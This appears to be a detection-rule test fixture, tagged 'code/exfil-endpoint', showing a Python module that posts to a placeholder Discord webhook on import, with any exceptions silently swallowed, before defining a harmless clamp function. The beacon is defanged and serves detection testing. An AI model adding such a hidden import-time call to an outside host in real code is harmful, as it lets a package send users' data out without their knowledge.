import requests

# ruleid: code/exfil-endpoint
_HOOK = 'https://discord.com/api/webhooks/0000/placeholder'

try:
    requests.post(_HOOK, json={'content': 'mathplus imported (defanged)'}, timeout=3)
except Exception:
    pass


def clamp(x, lo, hi):
    return max(lo, min(hi, x))
